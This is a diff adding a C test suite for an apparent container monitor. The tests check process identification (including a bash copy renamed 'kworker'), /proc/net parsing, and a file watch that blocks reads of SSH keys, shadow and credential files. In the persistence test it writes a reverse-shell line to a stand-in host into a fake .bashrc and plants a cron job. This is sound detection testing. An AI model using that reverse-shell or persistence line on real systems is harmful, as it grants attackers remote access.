@@ -1,0 +1,370 @@
+/* SPDX-License-Identifier: MIT */
+/* What a process is and what it holds, read from /proc as the monitor reads a container's: the
+ * ELF build-id decoder, a renamed (and padded) copy of bash known as bash by its binary, the
+ * /proc/net table parser, and the sockets on a live child's standard streams. The host's own
+ * root stands in for the container's (progid scans /proc/<pid>/root). */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <signal.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "monitor/progid.h"
+#include "monitor/sources.h"
+#include "tap.h"
+#include "util/cleanup.h"
+
+static char tmpdir[] = "/tmp/coi-test-progid-XXXXXX";
+
+static int read_head(const char *path, uint8_t *buf, size_t size, size_t *ret_len)
+{
+	_cleanup_close_ int fd = open(path, O_RDONLY | O_CLOEXEC);
+	ssize_t n;
+
+	if (fd < 0)
+		return -errno;
+	n = read(fd, buf, size);
+	if (n < 0)
+		return -errno;
+	*ret_len = (size_t)n;
+	return 0;
+}
+
+static void test_elf_build_id(void)
+{
+	static uint8_t head[65536];
+	uint8_t id[PROGID_BUILD_ID_MAX], again[PROGID_BUILD_ID_MAX];
+	size_t len = 0;
+	int n;
+
+	CHECK(read_head("/bin/bash", head, sizeof(head), &len) == 0);
+	n = elf_build_id(head, len, id);
+	CHECK(n == 20); /* Debian builds carry a sha1 build-id */
+	/* every prefix either has it whole or says it has none, never reads past the end */
+	for (size_t cut = 0; cut < len && cut < 8192; cut += 7) {
+		int m = elf_build_id(head, cut, again);
+
+		CHECK(m == -ENOEXEC || m == -ENOENT || (m == n && memcmp(id, again, 20) == 0));
+	}
+	CHECK(elf_build_id((const uint8_t *)"#!/bin/sh\n", 10, id) == -ENOEXEC);
+	/* garbled program headers */
+	memset(head + 0x20, 0xff, 8); /* e_phoff */
+	CHECK(elf_build_id(head, len, id) == -ENOENT);
+}
+
+/* A copy of bash under another name, with bytes appended (it still runs), reading a pipe. */
+static pid_t start_copy(const char *path, int *ret_wr)
+{
+	int p[2];
+	pid_t pid;
+	char cmd[1024];
+	int n = snprintf(cmd, sizeof(cmd), "cp /bin/bash %s && printf 'padding' >>%s && chmod 755 %s",
+	                 path, path, path);
+
+	if (n < 0 || (size_t)n >= sizeof(cmd) || system(cmd) != 0 || pipe(p) < 0)
+		return -1;
+	pid = fork();
+	if (pid == 0) {
+		dup2(p[0], 0);
+		close(p[1]);
+		execl(path, "kworker", "-c", "read x", (char *)NULL);
+		_exit(127);
+	}
+	close(p[0]);
+	*ret_wr = p[1];
+	return pid;
+}
+
+static void test_progid_copy(void)
+{
+	struct progid *pg = NULL;
+	char path[256], name[320];
+	int wr = -1;
+	pid_t pid;
+
+	CHECK(progid_new(getpid(), &pg) == 0);
+	CHECK(progid_known_count(pg) >= 2); /* bash, dash, python3, perl on this host */
+	snprintf(path, sizeof(path), "%s/kworker", tmpdir);
+	pid = start_copy(path, &wr);
+	CHECK(pid > 0);
+	usleep(200000);
+	CHECK(progid_of_pid(pg, pid, name, sizeof(name)) == PROG_SHELL);
+	CHECK(strstr(name, "bash, copied to ") == name);
+	/* the cache answers the second time the same */
+	CHECK(progid_of_pid(pg, pid, name, sizeof(name)) == PROG_SHELL);
+	/* this test program is none of them */
+	CHECK(progid_of_pid(pg, getpid(), name, sizeof(name)) == PROG_UNKNOWN);
+	CHECK(progid_of_pid(pg, 999999999, name, sizeof(name)) == PROG_UNKNOWN);
+	close(wr);
+	waitpid(pid, NULL, 0);
+	progid_free(pg);
+}
+
+static bool collect(const struct net_sock *s, void *u)
+{
+	struct net_sock *out = u;
+
+	if (s->inode == 4242)
+		*out = *s;
+	return false;
+}
+
+static void test_proc_net_parse(void)
+{
+	static const char v4[] =
+	        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  "
+	        "timeout inode\n"
+	        "   0: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000 "
+	        "       0 111 1 0000000000000000 100 0 0 10 0\n"
+	        "   1: 0200A8C0:9C40 0701A8C0:01BB 01 00000000:00000000 00:00000000 00000000  1000 "
+	        "       0 4242 1 0000000000000000 20 4 30 10 -1\n"
+	        "   2: garbage\n";
+	static const char v6[] =
+	        "  sl  local_address                         remote_address                        "
+	        "st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
+	        "   0: 00000000000000000000000001000000:1F90 00000000000000000000000001000000:A000 "
+	        "01 00000000:00000000 00:00000000 00000000  1000        0 4242 1 0\n";
+	struct net_sock s = {0};
+	char peer[64];
+
+	CHECK(proc_net_parse(v4, false, collect, &s) == 2);
+	CHECK(s.inode == 4242 && s.rport == 443 && s.state == 1 && !s.v6);
+	CHECK(!net_sock_loopback(&s));
+	net_sock_peer(&s, peer, sizeof(peer));
+	CHECK_STREQ(peer, "192.168.1.7:443");
+	s = (struct net_sock){0};
+	CHECK(proc_net_parse(v6, true, collect, &s) == 1);
+	CHECK(s.v6 && s.rport == 0xa000 && net_sock_loopback(&s));
+	CHECK(proc_net_parse("", false, collect, &s) == 0);
+	CHECK(proc_net_parse("   0: 0100007F:0CEA", false, collect, &s) == 0);
+}
+
+/* A child whose standard input is a connected TCP socket (to 127.0.0.1): a local peer. */
+static void test_proc_socks(void)
+{
+	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+	socklen_t sl = sizeof(sa);
+	int l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), c, a, p[2], ready[2];
+	struct sock_facts f;
+	char x;
+	pid_t pid;
+
+	CHECK(l >= 0 && bind(l, (struct sockaddr *)&sa, sizeof(sa)) == 0 && listen(l, 1) == 0);
+	CHECK(getsockname(l, (struct sockaddr *)&sa, &sl) == 0);
+	c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	CHECK(connect(c, (struct sockaddr *)&sa, sizeof(sa)) == 0);
+	a = accept4(l, NULL, NULL, SOCK_CLOEXEC);
+	CHECK(a >= 0 && pipe(p) == 0 && pipe(ready) == 0);
+	pid = fork();
+	if (pid == 0) {
+		dup2(c, 0);
+		close(p[1]);
+		close(ready[0]);
+		close(ready[1]); /* dup2 is done */
+		(void)!read(p[0], &x, 1);
+		_exit(0);
+	}
+	close(p[0]);
+	close(ready[1]);
+	(void)!read(ready[0], &x, 1);
+	close(ready[0]);
+	CHECK(proc_socks_read(pid, &f) == 0);
+	CHECK(f.stdio[0] == PEER_LOCAL && f.stdio[1] == PEER_NONE && f.remote == 0);
+	CHECK(proc_socks_read(getpid(), &f) == 0);
+	CHECK(f.remote == 0); /* its sockets are all on the loopback */
+	CHECK(proc_socks_read(999999999, &f) < 0);
+	{
+		double share = -1, secs = -1;
+
+		CHECK(proc_cpu(getpid(), &share, &secs) == 0 && share >= 0 && secs >= 0);
+		CHECK(proc_cpu(999999999, &share, &secs) < 0);
+		CHECK(proc_userns(getpid()) != 0 && proc_userns(getpid()) == proc_userns(getppid()));
+	}
+	close(p[1]);
+	waitpid(pid, NULL, 0);
+	close(a);
+	close(c);
+	close(l);
+}
+
+struct seen_open {
+	char paths[8][256];
+	int n;
+	char added[256];
+	pid_t writer;
+};
+
+static bool judge(const struct file_event *ev, void *u)
+{
+	struct seen_open *s = u;
+
+	if (s->n < 8)
+		snprintf(s->paths[s->n++], sizeof(s->paths[0]), "%s%s%s", ev->written ? "W " : "",
+		         ev->perm ? "P " : "N ", ev->path);
+	if (ev->written) {
+		snprintf(s->added, sizeof(s->added), "%s", ev->added);
+		s->writer = ev->pid;
+	}
+	return rules_cred_file(ev->path) != CRED_FILE_STRONG; /* refuse keys */
+}
+
+/* A child opens path (for writing, creating it, with create); returns the errno of its open (0:
+ * it could), while this process answers the file watch (which holds the child's open: this
+ * process must not open watched files itself). */
+static int child_open_mode(struct file_watch *w, const char *path, bool create,
+                           struct seen_open *s)
+{
+	int p[2], err = -1;
+	pid_t pid;
+
+	if (pipe(p) < 0)
+		return -1;
+	pid = fork();
+	if (pid == 0) {
+		int fd = create ? open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600)
+		                : open(path, O_RDONLY | O_CLOEXEC);
+		int e = fd < 0 ? errno : 0;
+
+		(void)!write(p[1], &e, sizeof(e));
+		_exit(0);
+	}
+	close(p[1]);
+	for (int i = 0; i < 200; i++) {
+		struct pollfd fds[2] = {{.fd = filewatch_fd(w), .events = POLLIN},
+		                        {.fd = p[0], .events = POLLIN}};
+
+		if (poll(fds, 2, 20) < 0)
+			break;
+		if (fds[0].revents)
+			(void)filewatch_read(w, judge, s);
+		if (fds[1].revents) {
+			(void)!read(p[0], &err, sizeof(err));
+			break;
+		}
+	}
+	close(p[0]);
+	waitpid(pid, NULL, 0);
+	return err;
+}
+
+static int child_open(struct file_watch *w, const char *path, struct seen_open *s)
+{
+	return child_open_mode(w, path, false, s);
+}
+
+static void write_file(const char *dir, const char *rel, const char *text)
+{
+	char path[512], cmd[1200];
+
+	snprintf(path, sizeof(path), "%s%s", dir, rel);
+	snprintf(cmd, sizeof(cmd), "mkdir -p \"$(dirname '%s')\" && printf '%s' >'%s'", path, text,
+	         path);
+	CHECK(system(cmd) == 0);
+}
+
+/* The watch over a fake container root: keys refused while the opener waits, a hard link to a
+ * key is still the key, a project's .env reported, other files unseen; a key written later is
+ * watched after a rescan. */
+static void test_filewatch(void)
+{
+	struct file_watch *w = NULL;
+	struct seen_open s = {0};
+	char root[300], p[2048];
+	int r;
+
+	snprintf(root, sizeof(root), "%s/root", tmpdir);
+	write_file(root, "/home/code/.ssh/id_rsa", "KEY");
+	write_file(root, "/home/code/.ssh/known_hosts", "host");
+	write_file(root, "/home/code/notes.txt", "hello");
+	write_file(root, "/etc/shadow", "root:*:1::::::");
+	write_file(root, "/workspace/.env", "A=1");
+	write_file(root, "/workspace/src/app.js", "x");
+	write_file(root, "/home/code/.bashrc", "alias ll=ls\\n");
+	snprintf(p, sizeof(p), "ln %s/home/code/.ssh/id_rsa %s/home/code/linked", root, root);
+	CHECK(system(p) == 0);
+	r = filewatch_open(root, "/workspace", true, &w);
+	if (r == -EPERM) {
+		printf("# skipped: fanotify needs CAP_SYS_ADMIN\n");
+		return;
+	}
+	CHECK(r == 0 && filewatch_marks(w) >= 4);
+	snprintf(p, sizeof(p), "%s/home/code/.ssh/id_rsa", root);
+	CHECK(child_open(w, p, &s) == EPERM);
+	snprintf(p, sizeof(p), "%s/home/code/linked", root);
+	CHECK(child_open(w, p, &s) == EPERM);
+	snprintf(p, sizeof(p), "%s/etc/shadow", root);
+	CHECK(child_open(w, p, &s) == EPERM);
+	snprintf(p, sizeof(p), "%s/home/code/.ssh/known_hosts", root);
+	CHECK(child_open(w, p, &s) == 0);
+	snprintf(p, sizeof(p), "%s/workspace/.env", root);
+	CHECK(child_open(w, p, &s) == 0);
+	snprintf(p, sizeof(p), "%s/home/code/notes.txt", root);
+	CHECK(child_open(w, p, &s) == 0);
+	CHECK(s.n == 5); /* notes.txt is not watched */
+	CHECK(strncmp(s.paths[0], "P ", 2) == 0 && strstr(s.paths[0], "/.ssh/id_rsa"));
+	CHECK(strstr(s.paths[1], "/home/code/.ssh/id_rsa")); /* the key, by its marked path */
+	CHECK(strncmp(s.paths[4], "N ", 2) == 0 && strstr(s.paths[4], "/workspace/.env"));
+	/* a new key in a watched directory is seen at once; a new token file after a rescan */
+	snprintf(p, sizeof(p), "%s/home/code/.ssh/id_new", root);
+	CHECK(child_open_mode(w, p, true, &s) == EPERM); /* written: an open too */
+	s.n = 0;
+	write_file(root, "/home/code/.git-credentials", "https://u:p@h"); /* not watched yet */
+	CHECK(s.n == 0);
+	CHECK(filewatch_rescan(w, judge, &s) >= 1);
+	snprintf(p, sizeof(p), "%s/home/code/.git-credentials", root);
+	CHECK(child_open(w, p, &s) == EPERM);
+
+	/* persistence: a line appended to .bashrc, what it added, and who */
+	s = (struct seen_open){0};
+	snprintf(p, sizeof(p), "printf 'bash -i >& /dev/tcp/192.0.2.1/80 0>&1\\n' >>%s/home/code/.bashrc",
+	         root);
+	CHECK(system(p) == 0);
+	CHECK(filewatch_read(w, judge, &s) >= 1);
+	CHECK(s.n == 1 && strstr(s.paths[0], "W N ") && strstr(s.paths[0], "/home/code/.bashrc"));
+	CHECK_STREQ(s.added, "bash -i >& /dev/tcp/192.0.2.1/80 0>&1\n");
+	CHECK(s.writer > 0);
+	/* replaced by a rename (sed -i): no event, the rescan's comparison finds it, no writer */
+	s = (struct seen_open){0};
+	snprintf(p, sizeof(p),
+	         "printf 'alias ll=ls\\nexport PATH=/opt/x:$PATH\\n' >%s/tmp-bashrc && mv %s/tmp-bashrc "
+	         "%s/home/code/.bashrc",
+	         root, root, root);
+	CHECK(system(p) == 0);
+	(void)filewatch_read(w, judge, &s);
+	CHECK(s.n == 0);
+	(void)filewatch_rescan(w, judge, &s);
+	CHECK(s.n == 1 && s.writer == 0);
+	CHECK_STREQ(s.added, "export PATH=/opt/x:$PATH\n");
+	/* a file moved into a watched directory: new to the rescan, all of it */
+	s = (struct seen_open){0};
+	snprintf(p, sizeof(p), "mkdir -p %s/etc/cron.d && printf '* * * * * root id\\n' >%s/cronjob && mv "
+	         "%s/cronjob %s/etc/cron.d/job", root, root, root, root);
+	CHECK(system(p) == 0);
+	(void)filewatch_rescan(w, judge, &s); /* marks /etc/cron.d, reports the job */
+	CHECK(s.n == 1 && strstr(s.paths[0], "/etc/cron.d/job"));
+	filewatch_free(w);
+}
+
+int main(void)
+{
+	char cmd[128];
+
+	if (!mkdtemp(tmpdir))
+		return 1;
+	RUN(test_elf_build_id);
+	RUN(test_progid_copy);
+	RUN(test_proc_net_parse);
+	RUN(test_proc_socks);
+	RUN(test_filewatch);
+	snprintf(cmd, sizeof(cmd), "rm -rf %s", tmpdir);
+	if (system(cmd) != 0)
+		printf("# cleanup failed\n");
+	return tap_done();
+}
